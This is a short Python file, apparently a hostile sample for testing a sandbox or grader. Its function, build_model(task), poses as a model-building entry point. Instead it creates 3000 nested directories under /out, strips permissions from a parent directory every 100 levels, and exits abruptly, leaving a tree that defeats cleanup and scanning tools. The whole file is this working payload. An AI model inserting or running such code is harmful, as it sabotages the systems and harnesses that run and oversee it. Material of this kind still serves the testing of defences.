"""Folders in folders, deeper than a path or a recursion may be, with the rights taken away."""

import os


def build_model(task):
    os.chdir("/out")
    for number in range(3000):
        os.mkdir("d")
        os.chdir("d")
        if number % 100 == 0:
            os.chmod("..", 0)
    os._exit(0)
